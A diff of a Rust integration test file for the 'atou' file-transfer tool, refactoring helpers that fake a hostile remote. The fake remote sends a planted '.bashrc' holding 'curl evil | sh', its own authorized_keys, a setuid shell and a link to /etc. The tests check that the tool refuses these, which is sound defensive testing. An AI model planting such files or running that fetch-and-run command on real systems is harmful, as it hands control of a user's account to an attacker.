@@ -12,93 +12,67 @@ use std::fs;
 use std::os::unix::fs::{MetadataExt, PermissionsExt};
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output, Stdio};
-use std::time::{SystemTime, UNIX_EPOCH};
 
-const ATOU: &str = env!("CARGO_BIN_EXE_atou");
+use common::{TestDir, ATOU};
 const MIB: u64 = 1 << 20;
 
-/// A directory of the test's own, removed at the end.
-struct Scratch(PathBuf);
-
-impl Scratch {
-    fn new(test: &str) -> Scratch {
-        let nanos = SystemTime::now()
-            .duration_since(UNIX_EPOCH)
-            .unwrap()
-            .subsec_nanos();
-        let root = std::env::temp_dir().join(format!(
-            "atou-hostile-remote-{test}-{}-{nanos:09}",
-            std::process::id()
-        ));
-        fs::create_dir_all(&root).unwrap();
-        Scratch(root)
-    }
-
-    fn path(&self, rel: &str) -> PathBuf {
-        self.0.join(rel)
-    }
-
-    /// An executable script at `name`.
-    fn script(&self, name: &str, body: &str) -> PathBuf {
-        let path = self.path(name);
-        fs::write(&path, format!("#!/bin/sh\n{body}\n")).unwrap();
-        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
-        path
-    }
-
-    /// A stand-in for ssh, given no options: skips `--`, drops the host
-    /// and runs the remote command with sh, as sshd runs it.
-    fn ssh(&self) -> PathBuf {
-        self.script(
-            "fake-ssh",
-            "if [ \"$1\" = -- ]; then shift; fi; shift\n\
-             SSH_CONNECTION='127.0.0.1 1 127.0.0.1 22' exec sh -c \"exec $*\"",
-        )
-    }
-
-    /// A remote atou that sends `sources` with `flags`, whatever the pull
-    /// asked for.
-    fn hostile(&self, flags: &str, sources: &[&Path]) -> PathBuf {
-        let sources: Vec<String> = sources
-            .iter()
-            .map(|s| format!("'{}'", s.display()))
-            .collect();
-        self.script(
-            "hostile-atou",
-            &format!(
-                "exec {ATOU} __remote send --port 0 --quiet {flags} -- {}",
-                sources.join(" ")
-            ),
-        )
-    }
-
-    /// A remote atou that answers the bootstrap with `port` and `addr`
-    /// (an answer built with the crate's own encoder, a key of its own)
-    /// and then does nothing.
-    fn answering(&self, port: u16, addr: Option<std::net::IpAddr>) -> PathBuf {
-        let key = atou::internals::crypto::StaticKeypair::generate()
-            .unwrap()
-            .public();
-        let answer = atou::internals::transfer::bootstrap::Answer {
-            ports: vec![port],
-            key,
-            addr,
-        }
-        .encode();
-        self.script(
-            "answering-atou",
-            &format!(
-                "read hello; printf '%s\\n' '{}'; exec sleep 30",
-                answer.trim_end()
-            ),
-        )
-    }
+/// An executable script at `name`.
+fn script(s: &TestDir, name: &str, body: &str) -> PathBuf {
+    let path = s.path(name);
+    fs::write(&path, format!("#!/bin/sh\n{body}\n")).unwrap();
+    fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
+    path
 }
 
-impl Drop for Scratch {
-    fn drop(&mut self) {
-        let _ = fs::remove_dir_all(&self.0);
+/// A stand-in for ssh, given no options: skips `--`, drops the host
+/// and runs the remote command with sh, as sshd runs it.
+fn fake_ssh(s: &TestDir) -> PathBuf {
+    script(
+        s,
+        "fake-ssh",
+        "if [ \"$1\" = -- ]; then shift; fi; shift\n\
+         SSH_CONNECTION='127.0.0.1 1 127.0.0.1 22' exec sh -c \"exec $*\"",
+    )
+}
+
+/// A remote atou that sends `sources` with `flags`, whatever the pull
+/// asked for.
+fn hostile(s: &TestDir, flags: &str, sources: &[&Path]) -> PathBuf {
+    let sources: Vec<String> = sources
+        .iter()
+        .map(|s| format!("'{}'", s.display()))
+        .collect();
+    script(
+        s,
+        "hostile-atou",
+        &format!(
+            "exec {ATOU} __remote send --port 0 --quiet {flags} -- {}",
+            sources.join(" ")
+        ),
+    )
+}
+
+/// A remote atou that answers the bootstrap with `port` and `addr`
+/// (an answer built with the crate's own encoder, a key of its own)
+/// and then does nothing.
+fn answering(s: &TestDir, port: u16, addr: Option<std::net::IpAddr>) -> PathBuf {
+    let key = atou::internals::crypto::StaticKeypair::generate()
+        .unwrap()
+        .public();
+    let answer = atou::internals::transfer::bootstrap::Answer {
+        ports: vec![port],
+        key,
+        addr,
     }
+    .encode();
+    script(
+        s,
+        "answering-atou",
+        &format!(
+            "read hello; printf '%s\\n' '{}'; exec sleep 30",
+            answer.trim_end()
+        ),
+    )
 }
 
 fn set_mode(path: &Path, mode: u32) {
@@ -110,12 +84,12 @@ fn mode(path: &Path) -> u32 {
 }
 
 /// `atou copy ARGS... --ssh STAND-IN --remote-atou REMOTE`, and what it said.
-fn pull(s: &Scratch, remote: &Path, args: &[&str]) -> Output {
+fn pull(s: &TestDir, remote: &Path, args: &[&str]) -> Output {
     let out = Command::new(ATOU)
         .env("XDG_CACHE_HOME", s.path("cache"))
         .arg("copy")
         .args(args)
-        .args(["--ssh", s.ssh().to_str().unwrap(), "--remote-atou"])
+        .args(["--ssh", fake_ssh(s).to_str().unwrap(), "--remote-atou"])
         .arg(remote)
         .args(if args.contains(&"--maxidle") {
             &[][..]
@@ -140,7 +114,7 @@ fn stderr(out: &Output) -> String {
 /// What the evil remote sends instead of `report.txt`: a `.bashrc`, an
 /// `.ssh` of mode 0777 holding its own authorized_keys, a setuid shell and
 /// a link to /etc.
-fn evil_tree(s: &Scratch) -> Vec<PathBuf> {
+fn evil_tree(s: &TestDir) -> Vec<PathBuf> {
     let evil = s.path("evil");
     fs::create_dir_all(evil.join(".ssh")).unwrap();
     fs::write(evil.join(".bashrc"), "curl evil | sh\n").unwrap();
@@ -156,7 +130,7 @@ fn evil_tree(s: &Scratch) -> Vec<PathBuf> {
 }
 
 /// The user's own home-like DEST: a `.bashrc` and an `.ssh` of their own.
-fn home(s: &Scratch) -> PathBuf {
+fn home(s: &TestDir) -> PathBuf {
     let dest = s.path("home");
     fs::create_dir_all(dest.join(".ssh")).unwrap();
     set_mode(&dest.join(".ssh"), 0o700);
@@ -167,10 +141,10 @@ fn home(s: &Scratch) -> PathBuf {
 
 #[test]
 fn a_pull_takes_only_the_names_it_asked_for() {
-    let s = Scratch::new("names");
+    let s = TestDir::new("hostile-remote-names");
     let sent = evil_tree(&s);
     let sent: Vec<&Path> = sent.iter().map(PathBuf::as_path).collect();
-    let remote = s.hostile("--overwrite", &sent);
+    let remote = hostile(&s, "--overwrite", &sent);
     let dest = home(&s);
     let out = pull(
         &s,
@@ -193,7 +167,7 @@ fn a_pull_takes_only_the_names_it_asked_for() {
 
 #[test]
 fn a_remote_cannot_replace_what_is_there_without_the_local_overwrite() {
-    let s = Scratch::new("overwrite");
+    let s = TestDir::new("hostile-remote-overwrite");
     let theirs = s.path("evil/report.txt");
     fs::create_dir_all(theirs.parent().unwrap()).unwrap();
     fs::write(&theirs, "theirs\n").unwrap();
@@ -201,7 +175,7 @@ fn a_remote_cannot_replace_what_is_there_without_the_local_overwrite() {
     fs::create_dir_all(&dest).unwrap();
     fs::write(dest.join("report.txt"), "mine\n").unwrap();
     // The remote asks to replace; this end was not told to.
-    let remote = s.hostile("--overwrite", &[&theirs]);
+    let remote = hostile(&s, "--overwrite", &[&theirs]);
     let out = pull(
         &s,
         &remote,
@@ -234,7 +208,7 @@ fn a_remote_cannot_replace_what_is_there_without_the_local_overwrite() {
 
 #[test]
 fn a_remote_cannot_re_mode_a_directory_that_was_there() {
-    let s = Scratch::new("remode");
+    let s = TestDir::new("hostile-remote-remode");
     let theirs = s.path("evil/runs");
     fs::create_dir_all(&theirs).unwrap();
     fs::write(theirs.join("new.txt"), "x").unwrap();
@@ -242,7 +216,7 @@ fn a_remote_cannot_re_mode_a_directory_that_was_there() {
     let dest = s.path("dest");
     fs::create_dir_all(dest.join("runs")).unwrap();
     set_mode(&dest.join("runs"), 0o700);
-    let remote = s.hostile("--overwrite", &[&theirs]);
+    let remote = hostile(&s, "--overwrite", &[&theirs]);
     let out = pull(&s, &remote, &["127.0.0.1:runs", dest.to_str().unwrap()]);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     assert!(dest.join("runs/new.txt").exists());
@@ -251,7 +225,7 @@ fn a_remote_cannot_re_mode_a_directory_that_was_there() {
 
 #[test]
 fn special_bits_are_cleared_unless_this_end_says_perms() {
-    let s = Scratch::new("setuid");
+    let s = TestDir::new("hostile-remote-setuid");
     let theirs = s.path("evil/tool");
     fs::create_dir_all(theirs.parent().unwrap()).unwrap();
     fs::write(&theirs, "#!/bin/sh\n").unwrap();
@@ -263,7 +237,7 @@ fn special_bits_are_cleared_unless_this_end_says_perms() {
         );
         return;
     }
-    let remote = s.hostile("", &[&theirs]);
+    let remote = hostile(&s, "", &[&theirs]);
     let dest = s.path("dest");
     let out = pull(&s, &remote, &["127.0.0.1:tool", dest.to_str().unwrap()]);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
@@ -280,11 +254,11 @@ fn special_bits_are_cleared_unless_this_end_says_perms() {
 
 #[test]
 fn a_link_out_of_dest_is_refused_unless_this_end_says_symlinks_all() {
-    let s = Scratch::new("links");
+    let s = TestDir::new("hostile-remote-links");
     let theirs = s.path("evil/data");
     fs::create_dir_all(&theirs).unwrap();
     std::os::unix::fs::symlink("/etc", theirs.join("etc")).unwrap();
-    let remote = s.hostile("", &[&theirs]);
+    let remote = hostile(&s, "", &[&theirs]);
     let dest = s.path("dest");
     let out = pull(&s, &remote, &["127.0.0.1:data", dest.to_str().unwrap()]);
     assert_ne!(out.status.code(), Some(0));
@@ -355,13 +329,13 @@ fn output_and_peak_rss(command: &mut Command) -> (Output, u64) {
 
 #[test]
 fn a_remote_opening_sixty_streams_gets_this_ends_memory_budget() {
-    let s = Scratch::new("streams");
+    let s = TestDir::new("hostile-remote-streams");
     let big = s.path("evil/big");
     fs::create_dir_all(big.parent().unwrap()).unwrap();
     let data: Vec<u8> = (0..256 * MIB).map(|i| (i * 7 % 251) as u8).collect();
     fs::write(&big, &data).unwrap();
     drop(data);
-    let remote = s.hostile("--streams 60 --buffer 1GiB", &[&big]);
+    let remote = hostile(&s, "--streams 60 --buffer 1GiB", &[&big]);
     let dest = s.path("dest");
     let (out, peak) = output_and_peak_rss(
         Command::new(ATOU)
@@ -369,7 +343,7 @@ fn a_remote_opening_sixty_streams_gets_this_ends_memory_budget() {
             .arg("copy")
             .args(["127.0.0.1:big", dest.to_str().unwrap()])
             .args(["--streams", "2", "--buffer", "8MiB", "--maxidle", "10"])
-            .args(["--ssh", s.ssh().to_str().unwrap(), "--remote-atou"])
+            .args(["--ssh", fake_ssh(&s).to_str().unwrap(), "--remote-atou"])
             .arg(&remote),
     );
     eprintln!(
@@ -389,7 +363,7 @@ fn a_remote_opening_sixty_streams_gets_this_ends_memory_budget() {
 
 #[test]
 fn a_remote_naming_another_address_is_not_sent_punches() {
-    let s = Scratch::new("address");
+    let s = TestDir::new("hostile-remote-address");
     // A victim at 127.0.0.2, which the remote names as its own address
     // (a bootstrap answer built with the crate's own encoder).
     let victim = std::net::UdpSocket::bind("127.0.0.2:0").unwrap();
@@ -397,7 +371,7 @@ fn a_remote_naming_another_address_is_not_sent_punches() {
         .set_read_timeout(Some(std::time::Duration::from_millis(200)))
         .unwrap();
     let port = victim.local_addr().unwrap().port();
-    let remote = s.answering(port, Some("127.0.0.2".parse().unwrap()));
+    let remote = answering(&s, port, Some("127.0.0.2".parse().unwrap()));
     let heard = std::thread::spawn(move || {
         let mut n = 0;
         let until = std::time::Instant::now() + std::time::Duration::from_secs(4);
@@ -426,7 +400,7 @@ fn a_remote_naming_another_address_is_not_sent_punches() {
 
 #[test]
 fn udp_that_never_arrives_is_a_bounded_wait_with_one_reason() {
-    let s = Scratch::new("blocked");
+    let s = TestDir::new("hostile-remote-blocked");
     let src = s.path("a.txt");
     fs::write(&src, "a").unwrap();
     // A push to a remote whose port nothing listens on (closed again).
@@ -435,7 +409,7 @@ fn udp_that_never_arrives_is_a_bounded_wait_with_one_reason() {
         .local_addr()
         .unwrap()
         .port();
-    let remote = s.answering(closed, None);
+    let remote = answering(&s, closed, None);
     let dest = s.path("dest");
     let started = std::time::Instant::now();
     let out = pull(
@@ -461,7 +435,7 @@ fn udp_that_never_arrives_is_a_bounded_wait_with_one_reason() {
 
 #[test]
 fn option_like_remote_atou_user_and_host_are_refused() {
-    let s = Scratch::new("dash");
+    let s = TestDir::new("hostile-remote-dash");
     let marker = s.path("ran");
     let dest = s.path("dest");
     for (args, what) in [
